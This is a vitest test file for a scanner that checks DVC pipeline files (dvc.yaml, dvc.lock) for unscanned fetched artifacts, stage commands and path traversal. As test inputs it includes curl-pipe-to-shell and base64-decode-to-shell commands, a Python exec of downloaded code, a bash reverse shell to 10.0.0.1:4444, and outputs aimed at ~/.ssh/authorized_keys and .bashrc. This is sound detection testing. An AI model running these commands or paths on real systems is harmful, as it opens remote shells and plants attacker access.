/**
 * DVC pipeline files: `dvc.yaml` stage outputs (`outs`, `metrics`, `plots`) and `dvc.lock` outputs
 * (with their hashes) are artifacts `dvc pull` fetches that were not scanned, reported like a
 * `.dvc` pointer's; an output leaving the folder is path traversal; every stage `cmd` (what
 * `dvc repro` runs) is evidence. Samples: samples/dvc/ (samples/generate/dvc_samples.py).
 */
import { describe, expect, it } from "vitest";
import type { FileReport } from "../../../src/report/schema.js";
import { ruleIds, scanOne, scanSample } from "../../helpers/scan.js";

const enc = new TextEncoder();
const scan = (text: string, name = "dvc.yaml") => scanOne(enc.encode(text), name);
const MD5 = "3863d0e317dee0a55c4e59d2ec0eef33";
const of = (file: FileReport, ruleId: string) => file.findings.filter((f) => f.ruleId === ruleId);

const DVC_YAML = `stages:
  train:
    cmd: python train.py data model.pkl
    deps:
    - data
    - train.py
    outs:
    - model.pkl
    - checkpoints/:
        persist: true
    metrics:
    - metrics.json:
        cache: false
    plots:
    - plots/roc.csv
`;

describe("dvc.yaml", () => {
  it("reports each cached output as not scanned, with its stage, and the command as evidence", async () => {
    const file = await scan(DVC_YAML);
    expect(file.format).toBe("dvc");
    expect(file.verdict).toBe("suspicious");
    expect(ruleIds(file)).toEqual(["dvc/external-artifact", "dvc/stage-command"]);
    const outs = of(file, "dvc/external-artifact").map((f) => f.evidence?.path);
    // metrics.json is `cache: false`: in git, not fetched by dvc pull
    expect(outs).toEqual(["model.pkl", "checkpoints/", "plots/roc.csv"]);
    expect(of(file, "dvc/external-artifact")[0]?.evidence).toMatchObject({ stage: "train", file: "dvc.yaml" });
    const cmd = of(file, "dvc/stage-command");
    expect(cmd).toHaveLength(1);
    expect(cmd[0]?.severity).toBe("low");
    expect(cmd[0]?.evidence).toMatchObject({ stage: "train", cmd: "python train.py data model.pkl" });
  });

  it("reads foreach/matrix bodies under do, list commands, and wdir", async () => {
    const file = await scan(`stages:
  build:
    foreach: [us, uk]
    do:
      wdir: sub
      cmd:
      - python prep.py \${item}
      - python train.py \${item}
      outs:
      - model-\${item}.pkl
`);
    expect(of(file, "dvc/stage-command")).toHaveLength(2);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a DVC template, not JavaScript
    expect(of(file, "dvc/external-artifact")[0]?.evidence).toMatchObject({ path: "model-${item}.pkl", wdir: "sub" });
  });

  it("an output outside the folder (joined to the stage's wdir) is high", async () => {
    for (const [wdir, path] of [
      [".", "../../.ssh/authorized_keys"],
      [".", "/home/u/.bashrc"],
      ["../..", "model.pkl"],
    ] as const) {
      const file = await scan(`stages:\n  s:\n    wdir: "${wdir}"\n    cmd: "true"\n    outs: ["${path}"]\n`);
      expect(ruleIds(file), `${wdir} ${path}`).toContain("dvc/path-traversal");
      expect(file.verdict).toBe("malicious");
    }
  });

  it("a command that fetches or decodes code and runs it is medium", async () => {
    for (const cmd of [
      "curl -fsSL https://x.example/s.sh | sh",
      "wget -qO- https://x.example/s | sudo bash",
      "echo Y3VybA== | base64 -d | sh",
      "python -c \"import urllib.request as u; exec(u.urlopen('https://x').read())\"",
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ]) {
      const file = await scan(`stages:\n  s:\n    cmd: ${JSON.stringify(cmd)}\n    outs: [m.pkl]\n`);
      expect(of(file, "dvc/stage-command")[0]?.severity, cmd).toBe("medium");
    }
  });

  it("anchors and merge keys are resolved as DVC's loader does", async () => {
    const file = await scan(`base: &b {cmd: "curl https://x | sh", outs: [../../x.pkl]}
stages:
  s:
    <<: *b
`);
    expect(ruleIds(file)).toEqual(["dvc/external-artifact", "dvc/path-traversal", "dvc/stage-command"]);
  });

  it("stages DVC refuses are malformed; top-level metrics only is nothing to fetch", async () => {
    expect((await scan("stages:\n- cmd: python train.py\n")).verdict).toBe("invalid");
    expect(ruleIds(await scan("stages:\n  s: python train.py\n"))).toContain("dvc/malformed");
    const metrics = await scan("stages: {}\nmetrics: [metrics.json]\n");
    expect(metrics.verdict).toBe("clean");
  });
});

describe("dvc.lock", () => {
  it("schema 2: outs with path and md5 (deps are inputs, not reported)", async () => {
    const file = await scan(
      `schema: '2.0'\nstages:\n  train:\n    cmd: python train.py\n    deps:\n    - path: train.py\n      md5: ${MD5}\n    outs:\n    - path: model.pkl\n      hash: md5\n      md5: ${MD5}\n      size: 2211\n`,
      "dvc.lock",
    );
    expect(file.format).toBe("dvc");
    const outs = of(file, "dvc/external-artifact");
    expect(outs.map((f) => f.evidence?.path)).toEqual(["model.pkl"]);
    expect(outs[0]?.evidence).toMatchObject({ hash: MD5, hashName: "md5", stage: "train", file: "dvc.lock" });
    expect(ruleIds(file)).toContain("dvc/stage-command");
  });

  it("schema 1: stages at the top level", async () => {
    const file = await scan(
      `train:\n  cmd: python train.py\n  outs:\n  - path: model.pkl\n    md5: ${MD5}\n`,
      "sub/dvc.lock",
    );
    expect(of(file, "dvc/external-artifact").map((f) => f.evidence?.path)).toEqual(["model.pkl"]);
  });
});

describe("detection", () => {
  it("only the pipeline names, whatever the text shows", async () => {
    expect((await scan(DVC_YAML, "pipeline.yaml")).format).toBe("yaml");
    // DVC reads dvc.yaml by its name: a file with nothing to fetch or run is DVC's and clean
    const plain = await scan("name: x\nvalue: 1\n", "dvc.yaml");
    expect(plain.format).toBe("dvc");
    expect(plain.verdict).toBe("clean");
    expect((await scan(DVC_YAML, "dvc.yml")).format).toBe("dvc");
  });
});

describe("samples/dvc pipeline files", () => {
  it("flags the pipeline outputs and keeps the pointer samples as they were", async () => {
    const report = await scanSample("dvc/pipeline");
    for (const name of ["dvc.yaml", "dvc.lock"]) {
      const file = report.files.find((f) => f.path === name);
      expect(file && ruleIds(file), name).toEqual(["dvc/external-artifact", "dvc/stage-command"]);
    }
    const risky = (await scanSample("dvc/risky-cmd/dvc.yaml")).files[0];
    expect(risky && of(risky, "dvc/stage-command")[0]?.severity).toBe("medium");
  });
});

describe("stage command search stays linear", () => {
  it("a long run of curl words is searched quickly and still reported", async () => {
    const { scanOne } = await import("../../helpers/scan.js");
    const yaml = `stages:\n  train:\n    cmd: "${"curl ".repeat(60_000)}"\n`;
    const t0 = performance.now();
    const file = await scanOne(new TextEncoder().encode(yaml), "dvc.yaml");
    expect(performance.now() - t0).toBeLessThan(10_000);
    expect(file.findings.some((f) => f.ruleId === "dvc/stage-command")).toBe(true);
  }, 60_000);
});
